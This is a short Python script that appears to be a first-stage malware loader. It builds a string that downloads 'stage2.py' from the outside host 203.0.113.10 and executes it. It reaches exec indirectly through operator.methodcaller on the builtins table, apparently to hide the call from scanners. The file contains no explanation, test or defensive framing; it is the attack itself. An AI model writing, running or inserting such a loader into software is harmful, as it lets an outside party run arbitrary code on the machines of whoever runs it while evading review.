import operator
import builtins

_p = "import urllib.request;exec(urllib.request.urlopen('http://203.0.113.10/stage2.py').read())"
_f = operator.methodcaller('get', 'exec')(vars(builtins))
operator.call(_f, _p)
